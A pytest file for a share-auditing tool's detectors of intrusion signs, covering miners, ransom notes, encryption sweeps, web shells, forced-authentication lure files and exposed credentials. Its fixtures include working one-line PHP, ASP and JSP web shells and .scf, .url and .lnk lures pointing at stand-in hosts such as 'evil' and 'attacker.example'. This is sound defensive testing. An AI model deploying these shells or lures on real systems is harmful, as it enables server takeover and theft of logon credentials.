"""Signs of intrusion and keys under the mat (issue 14): the name and head checks (classify/intrusion.py,
classify/credentials.py, classify/shelllink.py, classify/lookout.py), the crawl's facts (bounded, redacted,
within --max-sniff), the rules both ways with their severity context, that no secret is ever repeated, and
0 false positives over 2,000 ordinary files taken from this system."""

from __future__ import annotations

import dataclasses
import hashlib
import os
import random
import stat
import struct
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Union

import pytest
from synthetic import READ, WRITE, content, host, share
from synthetic import result as scan_result

from shareaudit import scanfile
from shareaudit.classify.checks import HeadView
from shareaudit.classify.credentials import by_name, credential_kind, find_credentials, real_secret
from shareaudit.classify.intrusion import (
    coercion_target,
    executable_magic,
    extension_sweep,
    is_drop_directory,
    is_miner_name,
    is_ransom_note,
    miner_config,
    split_name,
    unc_host,
    web_shell,
)
from shareaudit.classify.lookout import directory_sweep, look_at_head, look_at_name, look_unread
from shareaudit.classify.shelllink import LINK_CLSID, link_strings
from shareaudit.collect.crawl import SIGNS_PER_KIND, CrawlBounds, ShareCrawl
from shareaudit.collect.walk import Entry, Listing
from shareaudit.model import (
    Content,
    CredentialFile,
    CredentialKind,
    Finding,
    SecretKind,
    SecretSeen,
    Sign,
    SignKind,
)
from shareaudit.redact import Redactor
from shareaudit.rules import evaluate

KEY = b"k" * 32
REDACTOR = Redactor(KEY)
SECRET = "Tr0ub4dor-&3-lab"  # every planted secret of these tests; no output may contain it


def fingerprint(data: bytes) -> str:
    return REDACTOR.token("secret", hashlib.sha256(data).hexdigest())


def secrets_of(name: str, text: str | bytes) -> list[SecretSeen]:
    lower, extension = split_name(name)
    kind = credential_kind(lower, extension)
    assert kind is not None, name
    data = text.encode() if isinstance(text, str) else text
    hit = find_credentials(kind, lower, data, fingerprint)
    if hit is None:
        return []
    assert SECRET not in repr(hit)
    return list(hit.secrets)


# --- names -----------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "name",
    [
        "xmrig",
        "xmrig.exe",
        "XMRig-6.21.0-linux-x64.tar.gz",
        "xmr-stak",
        "xmr1g",
        "kdevtmpfsi",
        "cpuminer-opt",
    ],
)
def test_miner_names(name: str) -> None:
    assert is_miner_name(name.lower())


@pytest.mark.parametrize("name", ["mixer.py", "xml.xsd", "miner.txt", "minerva.pdf", "kworker", "setup.exe"])
def test_ordinary_names_are_no_miners(name: str) -> None:
    assert not is_miner_name(name.lower())


@pytest.mark.parametrize(
    "name",
    [
        "README_TO_DECRYPT.txt",
        "HOW_TO_RECOVER_FILES.html",
        "!!!READ_ME!!!.txt",
        "DECRYPT_INSTRUCTIONS.txt",
        "restore-my-files.txt",
        "_readme.txt",
        "#DECRYPT_MY_FILES#.html",
        "How To Restore Your Files.hta",
    ],
)
def test_ransom_note_names(name: str) -> None:
    assert is_ransom_note(*split_name(name))


@pytest.mark.parametrize(
    "name", ["README.txt", "decrypt.txt", "decrypt_files.py", "howto.txt", "recovery.md", "readme.html"]
)
def test_ordinary_names_are_no_ransom_notes(name: str) -> None:
    assert not is_ransom_note(*split_name(name))


@pytest.mark.parametrize(
    ("directory", "drop"),
    [
        ("", True),
        ("Uploads", True),
        ("x\\incoming\\y", True),
        ("Scans", True),
        ("usr\\share\\doc", False),
        ("Finance\\2024", False),
    ],
)
def test_drop_directories(directory: str, drop: bool) -> None:
    assert is_drop_directory(directory) is drop


# --- encryption sweeps -----------------------------------------------------------------------------------
def _names(count: int, pattern: str) -> list[str]:
    return [pattern.format(i) for i in range(count)]


def test_a_dozen_locked_files_and_a_note_are_a_sweep() -> None:
    sweep = extension_sweep([*_names(12, "scan_{}.pdf.locked"), "HOW_TO_RECOVER_FILES.txt"])
    assert sweep is not None and (sweep.extension, sweep.files) == ("locked", 12)
    assert "ransomware" in sweep.why


def test_a_random_extension_appended_to_documents_is_a_sweep() -> None:
    sweep = extension_sweep([*_names(15, "report_{}.docx.qzwkx"), "notes.txt", "a.pdf"])
    assert sweep is not None and sweep.extension == "qzwkx" and "appended" in sweep.why


def test_a_random_looking_extension_alone_is_a_sweep() -> None:
    sweep = extension_sweep(_names(10, "f{}.Xk3rT9"))
    assert sweep is not None and "random-looking" in sweep.why


@pytest.mark.parametrize(
    "names",
    [
        _names(50, "IM{:06d}.dcm"),  # a study folder
        _names(30, "20-vendor-{}.hwdb"),  # an ordinary extension
        _names(9, "scan_{}.pdf.locked"),  # too few
        [*_names(12, "scan_{}.pdf.locked"), *_names(40, "other_{}.pdf")],  # not most of the folder
        _names(20, "locale_{}.mo"),
        _names(12, "page_{}.1"),  # numbered, not an extension
        _names(12, "module_{}.service"),  # a word, not random
    ],
)
def test_ordinary_folders_are_no_sweep(names: list[str]) -> None:
    assert directory_sweep(names) is None


# --- heads -----------------------------------------------------------------------------------------------
def test_executable_magic() -> None:
    assert executable_magic(Path("/bin/true").read_bytes()[:4096]) == "ELF"
    pe = bytearray(0x100)
    pe[:2] = b"MZ"
    pe[0x3C:0x40] = (0x80).to_bytes(4, "little")
    pe[0x80:0x84] = b"PE\0\0"
    assert executable_magic(bytes(pe)) == "Windows PE"
    assert executable_magic(b"MZ" + bytes(100)) is None  # no PE header where e_lfanew points
    assert executable_magic(b"%PDF-1.4\n") is None
    assert executable_magic(b"") is None


def test_miner_configurations() -> None:
    xmrig = (
        '{"autosave": true, "donate-level": 1, "pools": [{"url": "pool:443", "user": "WALLET", "pass": "x"}]}'
    )
    why = miner_config(xmrig)
    assert why is not None and '"pools"' in why and '"donate-level"' in why and "WALLET" not in why
    launcher = "#!/bin/sh\n./x -o stratum+tcp://pool.example:3333 -u WALLET\n"
    assert miner_config(launcher) is not None and "WALLET" not in (miner_config(launcher) or "")
    assert miner_config('{"name": "pkg", "version": "1.0", "dependencies": {"url": "x"}}') is None
    assert miner_config('{"pools": ["default"], "url": "x"}') is None  # a pool of something else


@pytest.mark.parametrize(
    ("extension", "text"),
    [
        ("php", "<?php @eval(base64_decode($_POST['z0'])); ?>"),
        ("php", "<?php if(isset($_GET['c'])){ system($_GET['c']); } ?>"),
        ("aspx", '<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>'),
        ("asp", '<% Set s = Server.CreateObject("WScript.Shell") : s.Exec(Request.Form("cmd")) %>'),
        ("jsp", '<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>'),
    ],
)
def test_web_shells(extension: str, text: str) -> None:
    assert web_shell(text, extension) is not None


@pytest.mark.parametrize(
    ("extension", "text"),
    [
        ("php", "<?php echo htmlspecialchars($_GET['q']); $x = eval('return 1;'); ?>"),  # eval of a constant
        ("php", "<?php $data = base64_decode($blob); ?>"),
        ("aspx", '<%@ Page Language="C#" %><% Response.Write(Request.QueryString["q"]); %>'),
        ("jsp", '<%= request.getParameter("name") %>'),
    ],
)
def test_ordinary_server_scripts_are_no_web_shells(extension: str, text: str) -> None:
    assert web_shell(text, extension) is None


@pytest.mark.parametrize(
    ("value", "host"),
    [
        ("\\\\127.0.0.99\\share\\icon.ico", "127.0.0.99"),
        ("//attacker.example/x", "attacker.example"),
        ("file://10.1.2.3/share/x.ico", "10.1.2.3"),
        ("file:////evil/share", "evil"),
        ("\\\\evil@SSL@443\\DavWWWRoot\\x.ico", "evil"),
        ('"\\\\SRV01\\icons\\a.ico"', "srv01"),
        ("file:///C:/Windows/icon.ico", None),
        ("C:\\Windows\\System32\\shell32.dll", None),
        ("https://intranet.example/", None),
        ("\\\\?\\C:\\x", None),
        ("%LOGONSERVER%\\netlogon\\x.ico", None),
        ("\\\\%LOGONSERVER%\\netlogon\\x.ico", None),
    ],
)
def test_unc_hosts(value: str, host: str | None) -> None:
    assert unc_host(value) == host


@pytest.mark.parametrize(
    ("name", "text", "host"),
    [
        ("@x.scf", "[Shell]\r\nCommand=2\r\nIconFile=\\\\10.0.0.66\\s\\i.ico\r\n", "10.0.0.66"),
        (
            "Payroll.url",
            "[InternetShortcut]\nURL=https://intranet/\nIconFile=\\\\evil\\s\\i.ico\nIconIndex=1\n",
            "evil",
        ),
        ("desktop.ini", "[.ShellClassInfo]\r\nIconResource=\\\\evil\\s\\i.ico,0\r\n", "evil"),
        (
            "x.library-ms",
            '<?xml version="1.0"?><libraryDescription><searchConnectorDescriptionList><searchConnectorDescription>'
            "<simpleLocation><url>\\\\evil\\share</url></simpleLocation></searchConnectorDescription>"
            "</searchConnectorDescriptionList></libraryDescription>",
            "evil",
        ),
        (
            "x.searchConnector-ms",
            '<?xml version="1.0"?><searchConnectorDescription><iconReference>//evil/i.ico</iconReference>'
            "</searchConnectorDescription>",
            "evil",
        ),
        ("desktop.ini", "[.ShellClassInfo]\r\nIconResource=C:\\Windows\\System32\\imageres.dll,-3\r\n", None),
        ("intranet.url", "[InternetShortcut]\nURL=https://intranet.example/\n", None),
    ],
)
def test_coercion_files(name: str, text: str, host: str | None) -> None:
    data = text.encode()
    found = coercion_target(data, HeadView(data), name.lower())
    assert (found[0] if found else None) == host


# --- .lnk --------------------------------------------------------------------------------------------------
def shortcut(net_name: str = "", local: str = "", icon: str = "", icon_block: str = "") -> bytes:
    """A shell link built by the book ([MS-SHLLINK] 2.1, 2.3, 2.4, 2.5.5)."""
    flags = 0x80  # IsUnicode
    body = b""
    if net_name or local:
        flags |= 0x2
        tail = b""
        info_flags = local_offset = network_offset = 0
        if local:
            info_flags |= 0x1
            local_offset = 0x1C + len(tail)
            tail += local.encode("cp1252") + b"\0"
        if net_name:
            info_flags |= 0x2
            network_offset = 0x1C + len(tail)
            name = net_name.encode("cp1252") + b"\0"
            tail += struct.pack("<5I", 0x14 + len(name), 0x2, 0x14, 0, 0x00020000) + name
        body += (
            struct.pack("<7I", 0x1C + len(tail), 0x1C, info_flags, 0, local_offset, network_offset, 0) + tail
        )
    if icon:
        flags |= 0x40
        body += struct.pack("<H", len(icon)) + icon.encode("utf-16-le")
    if icon_block:
        ansi = icon_block.encode("cp1252").ljust(260, b"\0")
        wide = icon_block.encode("utf-16-le").ljust(520, b"\0")
        body += struct.pack("<II", 0x314, 0xA0000007) + ansi + wide
    header = struct.pack("<I", 0x4C) + LINK_CLSID + struct.pack("<I", flags) + bytes(0x4C - 24)
    return header + body + struct.pack("<I", 0)


def test_shortcut_strings_and_unc_targets() -> None:
    link = shortcut(net_name="\\\\127.0.0.99\\share", icon="\\\\10.9.8.7\\x\\i.ico")
    assert link_strings(link) == ("\\\\127.0.0.99\\share", "\\\\10.9.8.7\\x\\i.ico")
    assert coercion_target(link, HeadView(link), "report.lnk") == (
        "127.0.0.99",
        "a shortcut whose target or icon",
    )
    block = shortcut(local="C:\\Windows\\notepad.exe", icon_block="\\\\evil\\icons\\n.ico")
    assert "\\\\evil\\icons\\n.ico" in link_strings(block)
    assert coercion_target(block, HeadView(block), "notepad.lnk") == (
        "evil",
        "a shortcut whose target or icon",
    )
    local = shortcut(local="C:\\Windows\\notepad.exe", icon="%SystemRoot%\\notepad.exe")
    assert coercion_target(local, HeadView(local), "notepad.lnk") is None


def test_shortcut_parser_never_raises_on_truncated_or_hostile_bytes() -> None:
    link = shortcut(net_name="\\\\host\\share", icon="\\\\host\\i.ico", icon_block="\\\\host\\x")
    for length in range(len(link) + 1):
        link_strings(link[:length])
    rng = random.Random(14)
    for _ in range(2000):
        noise = bytearray(link)
        for _ in range(rng.randrange(1, 12)):
            noise[rng.randrange(20, len(noise))] = rng.randrange(256)
        link_strings(bytes(noise))
    assert link_strings(b"not a shortcut") == ()


# --- credentials ---------------------------------------------------------------------------------------------
def test_scan_to_folder_ini_names_the_account() -> None:
    found = secrets_of(
        "scan_to_folder.ini",
        f"[ScanToFolder]\r\nserver=\\\\nas\\scans\r\nuser=labscan\r\npassword={SECRET}\r\n",
    )
    assert [(s.kind, s.field, s.account) for s in found] == [(SecretKind.PASSWORD, "password", "labscan")]
    assert found[0].fingerprint == fingerprint(SECRET.encode())


def test_ricoh_address_book_export() -> None:
    text = (
        "# Format Version: 5.1.1.0\r\n# Generated at: 2024-03-11\r\n"
        '"Index in ACLs and Groups","Name","Folder: Protocol","Folder: Path","Folder: User Name","Folder: Password"\r\n'
        f'"[1]","[Scanner 2F]","[SMB]","[\\\\nas\\scans]","[svc-scan]","[{SECRET}]"\r\n'
        '"[2]","[Reception]","[SMB]","[\\\\nas\\scans]","[]","[]"\r\n'
    )
    found = secrets_of("MFP_2F_addr.csv", text)
    assert [(s.field, s.account) for s in found] == [("Folder: Password", "svc-scan")]


def test_xerox_style_address_book_with_semicolons() -> None:
    text = f"DisplayName;ScanNickName;ScanServerAddress;ScanLoginName;ScanLoginPassword\nScan 3F;Scans;10.0.0.5;CORP\\mfp3;{SECRET}\n"
    found = secrets_of("AddressBook.csv", text)
    assert [(s.field, s.account) for s in found] == [("ScanLoginPassword", "CORP\\mfp3")]


def test_kyocera_address_book_xml_attributes_and_elements() -> None:
    attributes = f'<?xml version="1.0"?><DeviceAddressBook><Item Type="Contact" DisplayName="Scan" SmbHostName="nas" SmbLoginName="mfp" SmbLoginPasswd="{SECRET}"/></DeviceAddressBook>'
    assert [(s.field, s.account) for s in secrets_of("Kyocera_AddressBook.xml", attributes)] == [
        ("SmbLoginPasswd", "mfp")
    ]
    elements = (
        '<?xml version="1.0"?><kmaddrbook:smb_information><kmaddrbook:server_name>nas</kmaddrbook:server_name>'
        f"<kmaddrbook:login_name>mfp2</kmaddrbook:login_name><kmaddrbook:login_password>{SECRET}</kmaddrbook:login_password>"
        "</kmaddrbook:smb_information>"
    )
    assert [(s.field, s.account) for s in secrets_of("abook.xml", elements)] == [("login_password", "mfp2")]


def test_unattend_answer_file() -> None:
    text = f"""<?xml version="1.0" encoding="utf-8"?>
<unattend xmlns="urn:schemas-microsoft-com:unattend"><settings pass="oobeSystem"><component name="Microsoft-Windows-Shell-Setup">
<AutoLogon><Password><Value>{SECRET}</Value><PlainText>true</PlainText></Password><Enabled>true</Enabled><Username>deploy</Username></AutoLogon>
<UserAccounts><AdministratorPassword><Value>{SECRET}x</Value><PlainText>false</PlainText></AdministratorPassword></UserAccounts>
</component></settings></unattend>"""
    found = secrets_of("Autounattend.xml", text)
    assert {(s.field, s.account) for s in found} == {
        ("Password", "deploy"),
        ("AdministratorPassword", "Administrator"),
    }
    sysprepped = text.replace(f"{SECRET}x", SECRET).replace(SECRET, "*SENSITIVE*DATA*DELETED*")
    assert secrets_of("unattend.xml", sysprepped) == []  # what sysprep leaves


def test_web_config_connection_string_and_app_settings() -> None:
    text = f"""<?xml version="1.0"?><configuration><connectionStrings>
<add name="Pacs" connectionString="Data Source=sql01;Initial Catalog=ris;User ID=ris_app;Password={SECRET};" providerName="System.Data.SqlClient"/>
</connectionStrings><appSettings><add key="SmtpUser" value="mailer"/><add key="SmtpPassword" value="{SECRET}2"/></appSettings></configuration>"""
    found = secrets_of("web.config", text)
    assert {(s.field, s.account) for s in found} == {
        ("connectionString Password", "ris_app"),
        ("SmtpPassword", "mailer"),
    }


def test_group_policy_preferences_cpassword() -> None:
    text = f'<?xml version="1.0"?><Groups><User name="admin"><Properties action="U" cpassword="{SECRET}AAAA" userName="Administrator (built-in)"/></User></Groups>'
    lower, extension = split_name("Groups.xml")
    kind = credential_kind(lower, extension)
    hit = find_credentials(kind or CredentialKind.CONFIG, lower, text.encode(), fingerprint)
    assert hit is not None and hit.kind is CredentialKind.GROUP_POLICY
    assert [(s.field, s.account) for s in hit.secrets] == [("cpassword", "Administrator (built-in)")]


def test_env_git_credentials_and_netrc() -> None:
    env = secrets_of(".env", f"DB_USER=ris\nDB_PASSWORD={SECRET}\nAPI_TOKEN={SECRET}t\nDEBUG=true\n")
    assert {(s.kind, s.field, s.account) for s in env} == {
        (SecretKind.PASSWORD, "DB_PASSWORD", "ris"),
        (SecretKind.TOKEN, "API_TOKEN", "ris"),
    }
    git = secrets_of(".git-credentials", f"https://builder:{SECRET}@git.example.org\n")
    assert [(s.field, s.account) for s in git] == [("URL credentials", "builder")]
    netrc = secrets_of(".netrc", f"machine ftp.example.org login backup password {SECRET}\n")
    assert [(s.field, s.account) for s in netrc] == [("password", "backup")]


def test_private_keys_and_keepass() -> None:
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import ec

    key = ec.generate_private_key(ec.SECP256R1())
    plain = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    locked = key.private_bytes(
        serialization.Encoding.PEM,
        serialization.PrivateFormat.PKCS8,
        serialization.BestAvailableEncryption(SECRET.encode()),
    )
    assert [(s.kind, s.field) for s in secrets_of("id_rsa", plain)] == [
        (SecretKind.PRIVATE_KEY, "PEM PRIVATE KEY")
    ]
    assert [s.field for s in secrets_of("server.key", locked)] == [
        "PEM ENCRYPTED PRIVATE KEY (passphrase-protected)"
    ]
    kdbx = b"\x03\xd9\xa2\x9a\x67\xfb\x4b\xb5" + os.urandom(200)
    assert [s.kind for s in secrets_of("Passwords.kdbx", kdbx)] == [SecretKind.PASSWORD_DATABASE]
    assert secrets_of("notes.kdbx", b"not a database") == []
    unread = by_name(CredentialKind.KEEPASS, "passwords.kdbx")
    assert unread is not None and unread.secrets[0].fingerprint is None
    assert by_name(CredentialKind.CONFIG, "app.ini") is None


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("app.ini", "[db]\nuser = ris\npassword =\n"),
        ("app.ini", "[db]\nuser = ris\npassword = ********\n"),
        ("app.ini", "[db]\npassword = ${DB_PASSWORD}\n"),
        ("app.ini", "[db]\npassword = %(db_password)s\n"),
        ("app.ini", "[db]\n# password = hunter2-real\n;password=hunter2-real\n"),
        ("app.ini", "[db]\npassword = changeme\n"),
        ("app.ini", "[db]\npassword = /etc/ris/db.pass\n"),
        ("app.conf", "HidePassword = yes\nPasswordAuthentication no\n"),
        ("nsswitch.conf", "passwd:         files systemd\ngroup:          files\n"),
        ("settings.xml", "<settings><!-- <password>repopwd-real</password> --></settings>"),
        (
            "settings.xml",
            "<settings><password></password><password>&lt;your password&gt;</password></settings>",
        ),
        (
            "web.config",
            '<configuration><add name="x" connectionString="Server=.;Integrated Security=SSPI"/></configuration>',
        ),
        (".git-credentials", "https://user:password@example.org\n"),
        ("scan_settings.csv", "Name,Folder,User Name,Password\nScan,\\\\nas\\scans,svc,\n"),
    ],
)
def test_placeholders_and_comments_are_no_secrets(name: str, text: str) -> None:
    assert secrets_of(name, text) == []


def test_real_secret() -> None:
    assert real_secret(SECRET) and real_secret(f'"{SECRET}"') and real_secret(f"[{SECRET}]")
    for placeholder in (
        "",
        "x",
        "****",
        "<password>",
        "{{ pw }}",
        "$PW",
        "%PW%",
        "your_password",
        "password",
    ):
        assert not real_secret(placeholder), placeholder


def test_fingerprints_are_keyed_and_stable() -> None:
    text = f"user=a\npassword={SECRET}\n"
    first = secrets_of("x.ini", text)[0].fingerprint
    assert first == secrets_of("y.ini", text)[0].fingerprint  # the same secret, another file
    assert first != secrets_of("x.ini", text.replace(SECRET, SECRET + "!"))[0].fingerprint
    other = Redactor(b"o" * 32).token("secret", hashlib.sha256(SECRET.encode()).hexdigest())
    assert first != other and first is not None and first.startswith("[secret:")
    assert hashlib.sha256(SECRET.encode()).hexdigest()[:12] not in (first or "")


# --- the crawl -------------------------------------------------------------------------------------------------
Tree = dict[str, Union["Tree", bytes]]


class TreeLister:
    """A Lister over a dict tree (folders are dicts, files are bytes)."""

    def __init__(self, tree: Tree) -> None:
        self.tree = tree
        self.heads: list[str] = []

    def _node(self, path: str) -> Tree | bytes:
        node: Tree | bytes = self.tree
        for part in path.split("\\") if path else ():
            assert isinstance(node, dict)
            node = node[part]
        return node

    def list_directories(self, paths: Sequence[str]) -> Iterator[Listing]:
        for path in paths:
            yield self.list_directory_fully(path)

    def list_directory_fully(self, path: str) -> Listing:
        node = self._node(path)
        assert isinstance(node, dict)
        entries = tuple(
            Entry(name, isinstance(child, dict), 0 if isinstance(child, dict) else len(child), 1.7e9)
            for name, child in node.items()
        )
        return Listing(path, entries)

    def read_heads(self, paths: Sequence[str], length: int) -> Iterator[tuple[str, bytes | str]]:
        for path in paths:
            self.heads.append(path)
            node = self._node(path)
            yield path, node[:length] if isinstance(node, bytes) else "STATUS_FILE_IS_A_DIRECTORY"

    def read_ranges(self, ranges: Sequence[tuple[str, int, int]]) -> Iterator[tuple[str, bytes | str]]:
        for path, offset, length in ranges:
            node = self._node(path)
            yield (
                path,
                node[offset : offset + length] if isinstance(node, bytes) else "STATUS_FILE_IS_A_DIRECTORY",
            )


ELF = Path("/bin/true").read_bytes()


def planted_tree() -> Tree:
    swept: Tree = {f"scan_{i:03d}.pdf.locked": bytes(300) for i in range(12)}
    swept["HOW_TO_RECOVER_FILES.txt"] = b"pay"
    return {
        "cleanup.sh": b"#!/bin/sh\nexit 0\n",
        "kworkerd": ELF,
        "@inventory.scf": b"[Shell]\r\nIconFile=\\\\10.66.0.1\\s\\i.ico\r\n",
        "xmrig": {
            "config.json": b'{"donate-level": 1, "pools": [{"url": "stratum+tcp://p:3333", "user": "W"}]}'
        },
        "2024-03": swept,
        "DOE_JOHN_1957-03-02": {"scan_to_folder.ini": f"user=labscan\npassword={SECRET}\n".encode()},
        "vault.kdbx": b"\x03\xd9\xa2\x9a\x67\xfb\x4b\xb5" + bytes(64),
        "Finance": {"tool.sh": b"#!/bin/sh\n"},  # not a drop folder: no sign
        "Teaching": {"IM00002": bytes(128) + b"DICM"},
    }


def crawl(tree: Tree, **bounds: object) -> tuple[Content, TreeLister]:
    lister = TreeLister(tree)
    found = ShareCrawl(lister, "guest", CrawlBounds(rate=0, **bounds), REDACTOR).run()  # type: ignore[arg-type]
    return found, lister


def test_the_crawl_records_every_planted_sign_and_credential(tmp_path: Path) -> None:
    found, lister = crawl(planted_tree())
    kinds = {(sign.kind, sign.path) for sign in found.intrusion}
    assert kinds == {
        (SignKind.DROPPED_EXECUTABLE, "cleanup.sh"),
        (SignKind.DROPPED_EXECUTABLE, "kworkerd"),
        (SignKind.COERCION_FILE, "@inventory.scf"),
        (SignKind.COIN_MINER, "xmrig\\config.json"),
        (SignKind.ENCRYPTION_SWEEP, "2024-03"),
        (SignKind.RANSOM_NOTE, "2024-03\\HOW_TO_RECOVER_FILES.txt"),
    }
    coercion = next(s for s in found.intrusion if s.kind is SignKind.COERCION_FILE)
    assert coercion.target == "10.66.0.1" and coercion.drop and coercion.directory == ""
    sweep = next(s for s in found.intrusion if s.kind is SignKind.ENCRYPTION_SWEEP)
    assert (sweep.extension, sweep.files, sweep.size, sweep.drop) == ("locked", 12, 3600, False)
    assert found.intrusion_counts == {
        "coercion_file": 1,
        "coin_miner": 1,
        "dropped_executable": 2,
        "encryption_sweep": 1,
        "ransom_note": 1,
    }
    by_kind = {c.kind: c for c in found.credentials}
    assert (
        set(by_kind) == {CredentialKind.SCAN_TO_FOLDER, CredentialKind.KEEPASS}
        and found.credentials_found == 2
    )
    scan = by_kind[CredentialKind.SCAN_TO_FOLDER]
    assert (
        scan.path.startswith("[name:") and "DOE_JOHN" not in scan.path
    )  # the folder looks personal: redacted
    assert scan.secrets[0].account == "labscan" and scan.secrets[0].fingerprint == fingerprint(
        SECRET.encode()
    )
    # One read per file: kworkerd is read once for the medical sniff and the ELF check together.
    assert len(lister.heads) == len(set(lister.heads)) and found.sniffed == len(lister.heads)
    assert "Finance\\tool.sh" not in lister.heads
    result = scan_result(host(shares=[share("s", content=found)]))
    document = scanfile.dumps(result)
    assert SECRET not in document and '"W"' not in document
    path = tmp_path / "scan.json"
    scanfile.write(result, path)
    assert scanfile.read(path).hosts[0].shares[0].content == found  # the JSON form round-trips


def test_signs_are_bounded_per_kind_and_counted() -> None:
    found, _ = crawl({f"drop_{i:03d}.ps1": b"Write-Host hi" for i in range(SIGNS_PER_KIND + 5)})
    assert len(found.intrusion) == SIGNS_PER_KIND
    assert found.intrusion_counts == {"dropped_executable": SIGNS_PER_KIND + 5}


def test_reads_stay_within_max_sniff_and_names_still_count() -> None:
    found, lister = crawl(planted_tree(), max_sniff=0)
    assert lister.heads == [] and found.sniffed == 0 and "sniff" in found.bounds_hit
    assert {s.kind for s in found.intrusion} == {
        SignKind.DROPPED_EXECUTABLE,  # cleanup.sh by its name (the ELF needs its bytes)
        SignKind.RANSOM_NOTE,
        SignKind.ENCRYPTION_SWEEP,
    }
    assert [c.kind for c in found.credentials] == [CredentialKind.KEEPASS]  # by its name, no fingerprint
    assert found.credentials[0].secrets[0].fingerprint is None
    capped, lister = crawl(planted_tree(), max_sniff=3)
    assert len(lister.heads) <= 3 and capped.sniffed <= 3
    unsniffed, lister = crawl(planted_tree(), sniff=False)
    assert lister.heads == [] and "sniff" not in unsniffed.bounds_hit


DICM = b"\0" * 128 + b"DICM" + b"\x02\x00\x00\x00UL\x04\x00" + bytes(4)


def test_credential_checks_leave_most_of_the_sniff_budget_to_medical_data() -> None:
    tree: Tree = {f"app{i:02d}.ini": f"user=u{i}\npassword={SECRET}{i}\n".encode() for i in range(30)}
    tree["Teaching"] = {f"IM{i:05d}": DICM for i in range(8)}  # extensionless: only their bytes tell
    found, lister = crawl(tree, max_sniff=10)
    assert len([path for path in lister.heads if path.endswith(".ini")]) == 2  # a fifth of --max-sniff
    assert found.medical["dicom"].count == 8 and found.sniffed == 10
    assert found.credentials_found == 2


# --- rules -------------------------------------------------------------------------------------------------------
LABELS = ("audit", "anonymous", "guest", "printer")
OPEN = {"anonymous": WRITE, "guest": WRITE, "audit": READ, "printer": READ}
CLOSED = {"audit": READ, "printer": READ}


def sign(kind: SignKind, path: str = "x", drop: bool = True, **fields: object) -> Sign:
    return Sign(kind, path, "", drop, "why", 10, "2024-03-11T12:00:00+00:00", **fields)  # type: ignore[arg-type]


def judged(
    *signs: Sign,
    access: dict[str, object] | None = None,
    medical: dict[str, int] | None = None,
    credentials: tuple[CredentialFile, ...] = (),
    crawled_as: str = "anonymous",
    extra: tuple[object, ...] = (),
) -> tuple[Finding, ...]:
    walked = content(medical, crawled_as=crawled_as, intrusion=signs, credentials=credentials)
    shares = [share("drop", access or OPEN, content=walked), *extra]  # type: ignore[arg-type]
    return evaluate(scan_result(host(shares=shares), labels=LABELS))


def severities(rule: str, found: tuple[Finding, ...]) -> list[str]:
    return [f.severity for f in found if f.rule == rule]


def test_coin_miner_is_critical_on_a_guest_writable_share_with_medical_data() -> None:
    miner = sign(SignKind.COIN_MINER)
    assert severities("intrusion-coin-miner", judged(miner, medical={"dicom": 3})) == ["critical"]
    assert severities("intrusion-coin-miner", judged(miner)) == ["high"]
    assert severities("intrusion-coin-miner", judged(miner, access=CLOSED, medical={"dicom": 3})) == ["high"]


def test_dropped_executables_need_a_door_and_a_drop_place() -> None:
    dropped = sign(SignKind.DROPPED_EXECUTABLE)
    assert severities("intrusion-dropped-executable", judged(dropped)) == ["high"]
    assert severities("intrusion-dropped-executable", judged(dropped, medical={"hl7v2": 1})) == ["critical"]
    assert severities("intrusion-dropped-executable", judged(dropped, access=CLOSED)) == []
    assert (
        severities("intrusion-dropped-executable", judged(sign(SignKind.DROPPED_EXECUTABLE, drop=False)))
        == []
    )


def test_web_shell_ransom_note_and_sweep() -> None:
    shell = sign(SignKind.WEB_SHELL)
    assert severities("intrusion-web-shell", judged(shell)) == ["critical"]
    assert severities("intrusion-web-shell", judged(shell, access=CLOSED)) == ["high"]
    note = sign(SignKind.RANSOM_NOTE, "d\\README_TO_DECRYPT.txt")
    swept = sign(SignKind.ENCRYPTION_SWEEP, "d", extension="locked", files=12)
    assert severities("intrusion-ransom-note", judged(note)) == ["high"]
    assert severities("intrusion-ransom-note", judged(note, swept)) == ["critical"]
    found = judged(note, swept)
    assert severities("intrusion-encryption-sweep", found) == ["critical"]
    step = next(f for f in found if f.rule == "intrusion-encryption-sweep").remediation["samba"][0]
    assert step.startswith("Isolate")  # incident response first, not "delete the file"


def test_coercion_files_pointing_at_the_server_itself_are_ordinary() -> None:
    assert severities(
        "intrusion-coercion-file", judged(sign(SignKind.COERCION_FILE, target="10.66.0.1"))
    ) == ["high"]
    for own in ("10.0.0.5", "nas01", "nas01.corp.example"):  # the address, target and NetBIOS name
        assert (
            severities("intrusion-coercion-file", judged(sign(SignKind.COERCION_FILE, target=own))) == []
        ), own


def credential(account: str | None = "svc-printer", kind: SecretKind = SecretKind.PASSWORD) -> CredentialFile:
    seen = SecretSeen(kind, "password", account, "[secret:0123456789ab]")
    return CredentialFile("scan_to_folder.ini", CredentialKind.SCAN_TO_FOLDER, "why", 74, None, (seen,), 1)


def test_credentials_severity_follows_who_reads_them_and_what_the_account_reaches() -> None:
    medical_share = share("imaging", {"printer": READ, "audit": READ}, content=content({"dicom": 9}))
    found = judged(credentials=(credential(),), extra=(medical_share,))
    finding = next(f for f in found if f.rule == "credentials-readable")
    assert finding.severity == "critical" and finding.identity == "anonymous"
    assert "svc-printer is this scan's identity printer" in finding.evidence
    assert "medical data in imaging" in finding.evidence and "[secret:0123456789ab]" in finding.evidence
    assert severities("credentials-readable", judged(credentials=(credential("someone-else"),))) == ["high"]
    domain_form = judged(credentials=(credential("CORP\\SVC-PRINTER"),), extra=(medical_share,))
    assert severities("credentials-readable", domain_form) == ["critical"]
    assert severities(
        "credentials-readable", judged(credentials=(credential(None, SecretKind.PRIVATE_KEY),))
    ) == ["high"]
    service = judged(
        credentials=(credential("nobody"),), access={"printer": READ, "audit": READ}, crawled_as="printer"
    )
    assert severities("credentials-readable", service) == ["medium"]
    audit = judged(credentials=(credential(),), access={"audit": READ}, crawled_as="audit")
    assert severities("credentials-readable", audit) == ["low"]


def test_no_intrusion_finding_without_signs() -> None:
    found = judged()
    assert not [f for f in found if f.rule.startswith(("intrusion-", "credentials-"))]


# --- 0 false positives on ordinary files -------------------------------------------------------------------------
